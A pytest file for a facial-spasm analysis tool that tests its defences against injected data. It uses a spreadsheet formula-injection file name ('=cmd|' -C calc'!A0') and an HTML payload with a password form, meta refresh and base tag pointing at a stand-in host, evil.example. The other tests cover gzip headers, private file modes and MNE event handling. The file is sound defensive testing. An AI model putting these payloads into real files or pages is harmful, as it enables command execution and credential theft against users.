"""Nothing read from data is run by what reads spasm-cv's files (issue 22, items 11-14).

- 11: a payload in any string field (events.tsv, summary.json, the monitor database) creates
  no element in the report or the review index page, checked in a real headless Chromium;
  every page's Content-Security-Policy forbids forms and ``<base>``, and the review page
  runs no inline script but its own (by hash).
- 11a: mouth-only events are not eye spasms to MNE: ``epochs["spasm/right"]`` (real MNE)
  selects eye episodes only.
- 12: a video named ``=cmd|' -C calc'!A0.mp4`` gives no formula cell in events.csv,
  recordings.csv or batch.tsv; numbers stay numbers; BIDS events.tsv stays exact.
- 14: ``review``, ``review --episodes-only`` and ``phantom`` honour ``--private``; gzip files
  carry no time or name in their header.
"""

from __future__ import annotations

import csv
import gzip
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import cli, sample_cut
from fsfaults import sim_result
from fuzzing import is_number
from test_privacy import mode, umask022  # noqa: F401 (umask022: a fixture, used by name)

from spasm_cv.events.table import Event
from spasm_cv.results.recording import Recording

FORMULA = "=cmd|' -C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _mouth_only(onset: float, side: str = "right") -> Event:
    return Event(onset, 0.4, "spasm", side, "twitch", "mouth", 0, 0.0, 0.0, None, True, 0.9, "none")


# ================================================================ 12. formula injection


def _cells(path: Path, delimiter: str = ",") -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f, delimiter=delimiter) for c in row]


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(tmp_path):
    result = sim_result(tmp_path / "r.spasm-cv", name=f"{FORMULA}.mp4")
    out = tmp_path / "csv"
    code, _, err = cli("export", result, "--format", "csv", "--out", out)
    assert code == 0, err
    for name in ("events.csv", "recordings.csv"):
        cells = _cells(out / name)
        formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
        assert formulas == [], (name, formulas[:3])
        assert f"'{FORMULA}.mp4" in cells, name  # the name is kept, as text
    events = pd.read_csv(out / "events.csv")
    assert pd.api.types.is_float_dtype(events["onset"])  # numbers are still numbers

    # BIDS is not a spreadsheet: events.tsv stays exact
    bids = tmp_path / "bids"
    assert cli("export", result, "--format", "bids", "--out", bids).returncode == 0


def test_safe_frame_changes_text_only():
    from spasm_cv.results.spreadsheet import safe_frame

    df = pd.DataFrame(
        {
            "x": [-1.5, 2.0],
            "n": [-3, 4],
            "s": ["-1.5", "@SUM(A1)"],
            "t": pd.array(["+1", None], dtype="string"),
        }
    )
    out = safe_frame(df)
    assert out["x"].tolist() == [-1.5, 2.0] and out["n"].tolist() == [-3, 4]
    assert out["s"].tolist() == ["'-1.5", "'@SUM(A1)"]  # text that looks like a formula
    assert out["t"].iloc[0] == "'+1" and pd.isna(out["t"].iloc[1])


def test_batch_table_neutralises_formula_cells(tmp_path):
    videos = tmp_path / "videos"
    videos.mkdir()
    (videos / f"{FORMULA}.mp4").write_text("not a video")  # an error row: no MediaPipe
    (videos / "@SUM(1+1).mp4").write_text("not a video")
    code, _, err = cli("batch", videos, "--out", tmp_path / "out", "--quiet")
    assert code == 1, err
    cells = _cells(tmp_path / "out" / "batch.tsv", "\t")
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert f"'{FORMULA}" in cells and "'@SUM(1+1)" in cells


# ======================================================= 14. private outputs, gzip headers


def test_signals_gzip_header_has_no_time_or_name(tmp_path):
    result = sim_result(tmp_path / "r.spasm-cv")
    raw = (result / "signals.csv.gz").read_bytes()
    assert raw[:2] == b"\x1f\x8b"
    flags, mtime = raw[3], int.from_bytes(raw[4:8], "little")
    assert mtime == 0 and not flags & 0x08  # no time, no FNAME field
    assert gzip.decompress(raw).startswith(b"time,")


def test_deidentified_elan_export_has_no_date_of_processing(tmp_path):
    from datetime import datetime, timezone

    from test_privacy import _synthetic_result

    result, _ = _synthetic_result(tmp_path, datetime(2026, 3, 4, 9, 30, tzinfo=timezone.utc))
    out = tmp_path / "elan"
    assert cli("export", result, "--format", "elan", "--out", out, "--deidentify").returncode == 0
    (eaf,) = out.glob("*.eaf")
    assert 'DATE="1970-01-01T00:00:00+00:00"' in eaf.read_text()


@pytest.mark.slow  # MediaPipe: review runs the face tracker again
@pytest.mark.usefixtures("umask022")
def test_review_honours_private(short_sample_result, tmp_path):
    video, episodes = tmp_path / "p" / "r.mp4", tmp_path / "e"
    code, _, err = cli("review", short_sample_result, "--out", video, "--private", "--quiet")
    assert code == 0, err
    assert mode(video) == 0o600 and mode(video.parent) == 0o700
    code, _, err = cli(
        "review", short_sample_result, "--episodes-only", "--out", episodes, "--private", "--quiet"
    )
    assert code == 0, err
    inside = [episodes, *episodes.rglob("*")]
    assert {mode(p) for p in inside if p.is_file()} == {0o600}
    assert {mode(p) for p in inside if p.is_dir()} == {0o700}


@pytest.mark.slow  # MediaPipe: the phantom is made from a tracked face
@pytest.mark.usefixtures("umask022")
def test_phantom_honours_private(tmp_path):
    out = tmp_path / "p" / "phantom.mp4"
    source = sample_cut(tmp_path / "face.mp4", 6.0)  # real blinks; longer than the phantom
    code, _, err = cli(
        "phantom",
        source,
        "--out",
        out,
        "--truth",
        tmp_path / "p" / "t.tsv",
        "--seconds",
        "4",
        "--private",
        "--quiet",
    )
    assert code == 0, err
    files = [p for p in (tmp_path / "p").rglob("*") if p.is_file()]
    assert files and {mode(p) for p in files} == {0o600}
    assert mode(tmp_path / "p") == 0o700


# ============================================================ 11a. mouth-only events in MNE


def test_mne_spasm_selection_holds_eye_episodes_only(tmp_path):
    mne = pytest.importorskip("mne")
    import spasm_cv

    rec = Recording.from_folder(sim_result(tmp_path / "r.spasm-cv", seconds=30.0))
    eye = [e for e in rec.events if e.is_episode]
    assert eye and all(e.side == "right" for e in eye)
    rec.events = sorted(
        [*rec.events, _mouth_only(20.0), _mouth_only(25.0, "left")], key=lambda e: e.onset
    )
    annotations = spasm_cv.to_mne_annotations(rec)
    assert {"mouth_only/right/twitch", "mouth_only/left/twitch"} <= set(annotations.description)

    fps = rec.summary.fps
    n = int(30 * fps)
    info = mne.create_info(["closure_right", "closure_left"], fps, "misc")
    raw = mne.io.RawArray(np.zeros((2, n)), info, verbose=False)
    raw.set_annotations(replace_orig_time(annotations, mne))
    events, ids = mne.events_from_annotations(raw, verbose=False)
    epochs = mne.Epochs(
        raw,
        events,
        ids,
        tmin=-0.5,
        tmax=0.5,
        baseline=None,
        preload=True,
        verbose=False,
        event_repeated="drop",
    )
    right = epochs["spasm/right"]
    onsets = sorted(np.round(right.events[:, 0] / fps, 1))
    assert onsets == sorted(np.round([e.onset for e in eye], 1))  # eye episodes only
    assert len(epochs["mouth_only"]) == 2 and len(epochs["mouth_only/left"]) == 1


def replace_orig_time(annotations, mne):
    """The annotations on a Raw without a measurement date (onsets from its first sample)."""
    return mne.Annotations(annotations.onset, annotations.duration, annotations.description)


def test_events_json_says_how_to_tell_mouth_only_events(tmp_path):
    import json

    doc = json.loads((sim_result(tmp_path / "r.spasm-cv") / "events.json").read_text())
    assert "mouth-only" in doc["trial_type"]["Levels"]["spasm"]
    assert "regions != 'mouth'" in doc["trial_type"]["Levels"]["spasm"]


# ======================================================================= 11. HTML injection

# markup in every string field: a form to steal a password, a meta refresh, a <base>, a
# broken-out attribute; every element it would create carries data-pwn
PAYLOAD = (
    '"\'><form data-pwn action="https://evil.example/"><input data-pwn name="pw">'
    '</form><meta data-pwn http-equiv="refresh" content="0;url=https://evil.example/">'
    '<base data-pwn href="https://evil.example/"><b data-pwn>x</b>'
)
NAME_PAYLOAD = PAYLOAD.replace("/", "")  # a folder name holds no slash

PROBE = """<script>
document.title = JSON.stringify({
  injected: document.querySelectorAll('[data-pwn]').length,
  forms: document.forms.length,
  inputs: document.querySelectorAll('input').length,
  bases: document.querySelectorAll('base').length,
  refresh: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
  cursors: [...document.querySelectorAll('.cursor')].map(c => c.style.left),
});
</script>"""


def _csp(page: str) -> str:
    import re

    return re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)[1]


def dom_probe(chromium: str, page: Path, tmp: Path, keep_csp: bool = False) -> dict:
    """What Chromium built from ``page``: elements the payload would create, forms, bases.

    The probe is a script appended to a copy of the page, the page's CSP removed so that the
    probe runs (``keep_csp``: the CSP kept, the page's own scripts only; the probe then
    reports nothing and the cursors show whether the page's script ran).
    """
    import json
    import re
    import subprocess

    from test_report import CHROMIUM_FLAGS

    text = page.read_text(encoding="utf-8")
    probe = page.with_name(f"probe-{len(list(page.parent.glob('probe-*')))}-{page.name}")
    if keep_csp:
        probe.write_text(text, encoding="utf-8")
    else:
        text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text, count=1)
        probe.write_text(text.replace("</body>", PROBE + "</body>"), encoding="utf-8")
    dom = subprocess.run(
        [chromium, *CHROMIUM_FLAGS, f"--user-data-dir={tmp / 'probe-profile'}", "--dump-dom",
         "--virtual-time-budget=3000", probe.as_uri()],
        check=True, capture_output=True, text=True, timeout=120,
    ).stdout  # fmt: skip
    probe.unlink()
    if keep_csp:
        return {"dom": dom}
    title = re.search(r"<title>(.*?)</title>", dom, re.S)[1]
    import html

    return json.loads(html.unescape(title))


def _poisoned_result(tmp_path: Path) -> Path:
    """A result folder (real writers) with the payload in every free-text field a reader
    keeps: its name (the folder's) and summary.json's texts (events.tsv's words are checked
    against their vocabulary instead: :func:`_poison_events`)."""
    import json

    folder = sim_result(tmp_path / f"{NAME_PAYLOAD}.spasm-cv", seconds=30.0)
    summary = json.loads((folder / "summary.json").read_text())
    summary["complete"] = False
    summary["interrupted"] = PAYLOAD
    summary["model"] = {"name": PAYLOAD, "sha256": PAYLOAD}
    summary["software"] = {"name": "spasm-cv", "version": PAYLOAD}
    (folder / "summary.json").write_text(json.dumps(summary))
    return folder


def _poison_events(folder: Path) -> Path:
    """The payload appended to the kind and context of every spasm row of events.tsv."""
    rows = (folder / "events.tsv").read_text().splitlines()
    head = rows[0].split("\t")
    out = [rows[0]]
    for line in rows[1:]:
        cells = line.split("\t")
        if cells[head.index("trial_type")] == "spasm":
            for col in ("kind", "context"):  # regions: an enum the readers count by
                cells[head.index(col)] += PAYLOAD
        out.append("\t".join(cells))
    (folder / "events.tsv").write_text("\n".join(out) + "\n")
    return folder


def _assert_clean(seen: dict) -> None:
    assert seen["injected"] == 0 and seen["forms"] == 0 and seen["inputs"] == 0, seen
    assert seen["bases"] == 0 and seen["refresh"] == 0, seen


def test_report_shows_markup_from_data_as_text(chromium, tmp_path):
    folder = _poisoned_result(tmp_path)
    page = tmp_path / "report.html"
    code, _, err = cli(
        "report", folder, "--out", page, "--title", PAYLOAD, "--treatment", f"2023-11-14:{PAYLOAD}"
    )
    assert code == 0, err
    text = page.read_text(encoding="utf-8")
    assert PAYLOAD not in text and "&lt;form data-pwn" in text
    _assert_clean(dom_probe(chromium, page, tmp_path))
    # markup in an event's words (kind, context) never reaches a page: refused in one line
    _assert_refused(
        cli("report", _poison_events(folder), "--out", tmp_path / "e.html"),
        tmp_path / "e.html",
        "events.tsv",
        "kind",
    )


def _assert_refused(result, page: Path, *words: str) -> None:
    code, _, err = result
    assert code == 2 and len(err.strip().splitlines()) == 1 and not page.exists(), err
    assert PAYLOAD not in err and all(w in err for w in words), err


def test_report_of_a_monitor_database_shows_markup_as_text(chromium, tmp_path):
    import time

    from spasm_cv.live.store import Batch, SessionInfo, Store

    db = tmp_path / "m.sqlite"
    with Store(db) as store:
        sid = store.begin_session(
            SessionInfo(
                time.time() - 120,
                PAYLOAD,
                "stream",
                25.0,
                640,
                480,
                False,
                {},
                PAYLOAD,
                PAYLOAD,
                PAYLOAD,
            )
        )
        event = Event(
            1.0, 0.5, "spasm", "right", "twitch", "eye", 1, 0.6, 0.2, False, None, 0.7, "none"
        )
        store.write(sid, time.time() - 120, Batch.of(events=[event, _mouth_only(3.0)]))
        store.end_session(sid, time.time(), PAYLOAD)
    page = tmp_path / "db.html"
    code, _, err = cli("report", "--db", db, "--out", page)
    assert code == 0, err
    assert PAYLOAD not in page.read_text(encoding="utf-8")
    _assert_clean(dom_probe(chromium, page, tmp_path))
    with Store(db) as store:
        store.conn.execute(
            "UPDATE events SET kind = kind || ?, context = context || ?", (PAYLOAD, PAYLOAD)
        )
    _assert_refused(
        cli("report", "--db", db, "--out", tmp_path / "e.html"),
        tmp_path / "e.html",
        "events",
        "kind",
    )


def test_every_page_forbids_forms_and_base_and_inline_scripts(tmp_path):
    from spasm_cv._html import script_hash
    from spasm_cv.report.html import CSP as REPORT_CSP
    from spasm_cv.review.page import CSP as REVIEW_CSP
    from spasm_cv.review.page import SCRIPT

    page = tmp_path / "r.html"
    assert cli("report", sim_result(tmp_path / "r.spasm-cv"), "--out", page).returncode == 0
    for policy in (_csp(page.read_text()), str(REPORT_CSP), str(REVIEW_CSP)):
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["default-src"] == "'none'"
        assert directives["form-action"] == "'none'" and directives["base-uri"] == "'none'"
        assert "'unsafe-inline'" not in directives.get("script-src", "")
    assert "script-src" not in _csp(page.read_text())  # the report runs no script at all
    assert f"script-src {script_hash(SCRIPT)}" in str(REVIEW_CSP)


@pytest.mark.slow  # MediaPipe: review runs the face tracker again
def test_review_index_shows_markup_as_text_and_runs_only_its_own_script(
    short_sample_result, chromium, tmp_path
):
    import json
    import shutil

    folder = tmp_path / f"{NAME_PAYLOAD}.spasm-cv"
    shutil.copytree(short_sample_result, folder)
    summary = json.loads((folder / "summary.json").read_text())
    summary["input"]["name"] = PAYLOAD  # the recording's name: the page's title and heading
    (folder / "summary.json").write_text(json.dumps(summary))
    episodes = tmp_path / "episodes"
    code, _, err = cli("review", folder, "--episodes-only", "--out", episodes, "--quiet")
    assert code == 0, err
    page = episodes / "index.html"
    text = page.read_text(encoding="utf-8")
    assert PAYLOAD not in text and "&lt;form data-pwn" in text
    _assert_clean(dom_probe(chromium, page, tmp_path))
    # with its CSP: the page's own script runs (the cursors are placed), by its hash
    dom = dom_probe(chromium, page, tmp_path, keep_csp=True)["dom"]
    assert 'class="cursor" style="left:' in dom
    # markup in an event's words never reaches the page: refused in one line
    _assert_refused(
        cli(
            "review", _poison_events(folder), "--episodes-only", "--quiet", "--out", tmp_path / "e"
        ),
        tmp_path / "e",
        "events.tsv",
        "kind",
    )
